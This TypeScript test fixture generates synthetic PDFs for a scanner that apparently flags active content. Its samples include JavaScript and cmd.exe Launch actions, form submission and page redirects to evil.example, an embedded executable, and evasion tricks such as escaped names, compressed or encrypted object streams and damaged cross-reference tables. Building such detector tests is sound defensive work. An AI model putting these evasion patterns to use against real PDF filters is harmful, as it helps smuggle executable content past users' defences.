import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { joinObjects, listObjects, reportLines, stream } from '#testing/parsing/write-pdf.ts'

/** A readable report whose catalog has further entries, with further objects from number 6 on. */
function writeReportWith(catalog: string, ...further: string[]): Buffer {
  const [, ...others] = listObjects([reportLines])
  return joinObjects([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...others, ...further])
}

/** The report's page with an annotation. */
function writeAnnotated(annotation: string): Buffer {
  const [catalog = '', pages = '', font = '', page = '', content = ''] = listObjects([reportLines])
  const annotated = page.replace('/Type /Page ', '/Type /Page /Annots [6 0 R] ')
  return joinObjects([
    catalog,
    pages,
    font,
    annotated,
    content,
    `<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>`,
  ])
}

/** One object, numbered 7, inside a compressed object stream. */
function writeObjectStream(object: string, type = '/Type /ObjStm', count = '1'): string {
  const head = '7 0 '
  return pack(head + object, `${type} /N ${count} /First ${head.length}`)
}

function pack(content: string, entries: string): string {
  const packed = deflateSync(Buffer.from(content, 'latin1')).toString('latin1')
  return stream(packed, `${entries} /Filter /FlateDecode`)
}

/** The same with each byte as the difference to the one before it, above it, or otherwise guessed from its neighbors. */
function writePredictedStream(object: string): string {
  const columns = 16
  const head = '7 0 '
  const plain = Buffer.from((head + object).padEnd(128), 'latin1')
  const at = (index: number, isThere: boolean) => (isThere ? (plain[index] ?? 0) : 0)
  const rows = Array.from({ length: plain.length / columns }, (_, row) => {
    const kind = row % 5
    const bytes = Array.from({ length: columns }, (_each, column) => {
      const index = row * columns + column
      const left = at(index - 1, column > 0)
      const above = at(index - columns, row > 0)
      const corner = at(index - columns - 1, row > 0 && column > 0)
      const guesses = [0, left, above, (left + above) >> 1, nearest(left, above, corner)]
      return ((plain[index] ?? 0) - (guesses[kind] ?? 0)) & 255
    })
    return Buffer.from([kind, ...bytes])
  })
  const entries = `/Type /ObjStm /N 1 /First ${head.length} /DecodeParms << /Predictor 12 /Columns ${columns} >>`
  return pack(Buffer.concat(rows).toString('latin1'), entries)
}

/** Paeth's choice. */
const nearest = (left: number, above: number, corner: number) =>
  [left, above, corner].reduce((best, each) => {
    const distance = (value: number) => Math.abs(left + above - corner - value)
    return distance(each) < distance(best) ? each : best
  })

const alert = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const launch = '<< /S /Launch /F (cmd.exe) >>'
const opening = '/OpenAction 7 0 R'

/** Readable reports that run, start or carry something. */
export const activePdfs: Record<string, () => Buffer> = {
  'a script on opening': () => writeReportWith(`/OpenAction ${alert}`),
  'a script by reference': () => writeReportWith('/OpenAction 6 0 R', alert),
  'a script under an escaped name': () =>
    writeReportWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
  'a script in an object stream': () => writeReportWith(opening, writeObjectStream(alert)),
  'a script in an object stream without a type': () =>
    writeReportWith(opening, writeObjectStream(alert, '')),
  'a program in an object stream with predicted bytes': () =>
    writeReportWith('', writePredictedStream(launch)),
  'a program in an object stream whose number of objects is elsewhere': () =>
    writeReportWith('', writeObjectStream(launch, '', '8 0 R'), 'null', '1'),
  'a program behind a damaged object in an object stream': () =>
    writeReportWith('', pack(`7 0 8 9 << /S /)(  ${launch}`, '/Type /ObjStm /N 2 /First 8')),
  'a program behind a damaged object': () => {
    const shown = writeReportWith('').toString('latin1')
    return Buffer.from(`${shown}6 0 obj\n<< /A ]\n7 0 obj\n${launch}\n`, 'latin1')
  },
  'a script among the names': () =>
    writeReportWith(`/Names << /JavaScript << /Names [(a) ${alert}] >> >>`),
  'a script of the page': () => writeReportWith(`/AA << /WC ${alert} >>`),
  'a script in an object that a later one replaces': () => {
    const shown = writeReportWith('/OpenAction 6 0 R', alert).toString('latin1')
    return Buffer.from(`${shown}6 0 obj\n<< /S /GoTo /D [4 0 R /Fit] >>\nendobj\n`, 'latin1')
  },
  'a script behind a table of a hundred billion objects': () =>
    writeReportWith(
      '',
      stream('', '/Type /XRef /Size 8 /W [1 2 2] /Index [0 99999999999] /Root 1 0 R'),
      alert,
    ),
  'a script behind a damaged table of objects': () =>
    writeReportWith('', stream('', '/Type /XRef /Size 8'), alert),
  'a script in a table of objects': () =>
    writeReportWith('', stream('', `/Type /XRef /Size 8 /W [1 2 2] /Info << /A ${alert} >>`)),
  'a script of a field': () =>
    writeAnnotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${alert} >>`),
  'a program behind a link': () =>
    writeAnnotated('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>'),
  'a page that opens by itself': () =>
    writeReportWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  'a form that is sent': () =>
    writeAnnotated('/Subtype /Link /A << /S /SubmitForm /F (https://evil.example) >>'),
  'a dynamic form': () => writeReportWith('/AcroForm << /XFA 6 0 R >>', stream('<xdp:xdp/>')),
  'a file among the names': () =>
    writeReportWith(
      '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
      stream('MZ', '/Type /EmbeddedFile'),
    ),
  'a file pinned to the page': () =>
    writeAnnotated('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'),
  'a film': () => writeAnnotated('/Subtype /RichMedia'),
}

/** Object streams that this program cannot read. */
export const hiddenPdfs: Record<string, () => Buffer> = {
  'more objects than are there': () =>
    writeReportWith('', writeObjectStream(launch, '', '99999999')),
  'an unknown filter': () =>
    writeReportWith('', stream('7 0 null', '/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode')),
  'another predictor': () =>
    writeReportWith(
      '',
      pack('7 0 null', '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 2 >>'),
    ),
}

/** The report with further objects, encrypted so that it opens without a password (ISO 32000-1, 7.6). */
function writeEncrypted(...further: string[]): Buffer {
  const id = Buffer.alloc(16, 1)
  const owner = Buffer.alloc(32, 2)
  const rights = Buffer.alloc(4)
  rights.writeInt32LE(-4)
  const padding = Buffer.from(
    '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
    'hex',
  )
  const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest()
  const key = md5(padding, owner, rights, id).subarray(0, 5)
  const encrypt = (object: string, number: number) =>
    object.replace(/(?<=stream\n).*(?=\nendstream)/s, (content) => {
      const ofObject = md5(key, Buffer.from([number, 0, 0, 0, 0])).subarray(0, 10)
      return rc4(ofObject, Buffer.from(content, 'latin1')).toString('latin1')
    })
  const objects = [...listObjects([reportLines]), ...further]
  const user = rc4(key, padding).toString('hex')
  return joinObjects(
    [
      ...objects.map((object, index) => encrypt(object, index + 1)),
      `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user}> /P -4 >>`,
    ],
    `/Encrypt ${objects.length + 1} 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
  )
}

export const writeEncryptedPdf = () => writeEncrypted(writeObjectStream(launch))

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const box = Uint8Array.from({ length: 256 }, (_, index) => index)
  const at = (index: number) => box[index & 255] ?? 0
  const swap = (a: number, b: number) => {
    const kept = at(a)
    box[a & 255] = at(b)
    box[b & 255] = kept
  }
  let j = 0
  for (let i = 0; i < 256; i += 1) {
    j = (j + at(i) + (key[i % key.length] ?? 0)) & 255
    swap(i, j)
  }
  j = 0
  return Buffer.from(
    bytes.map((byte, index) => {
      j = (j + at(index + 1)) & 255
      swap(index + 1, j)
      return byte ^ at(at(index + 1) + at(j))
    }),
  )
}

/** What laboratories' own programs write too. */
export const passivePdfs: Record<string, () => Buffer> = {
  'opens at its first page': () => writeReportWith('/OpenAction [4 0 R /FitH 792]'),
  'opens at its first page by an action': () =>
    writeReportWith('/OpenAction << /S /GoTo /D [4 0 R /Fit] >>'),
  'asks to be printed': () => writeReportWith('/OpenAction << /S /Named /N /Print >>'),
  'links to its laboratory': () =>
    writeAnnotated('/Subtype /Link /A << /S /URI /URI (https://lab.example) >>'),
  'has a form without scripts': () => writeAnnotated('/Subtype /Widget /FT /Tx /T (name) /V (Ada)'),
  'has its objects in a stream': () => writeReportWith('/Lang 7 0 R', writeObjectStream('(en-US)')),
  'has its objects in a stream with predicted bytes': () =>
    writeReportWith('/Lang 7 0 R', writePredictedStream('(en-US)')),
  'is encrypted without a password': () => writeEncrypted(),
  'names JavaScript in its text': () =>
    joinObjects(listObjects([[...reportLines, '/JavaScript /Launch /EmbeddedFiles']])),
}
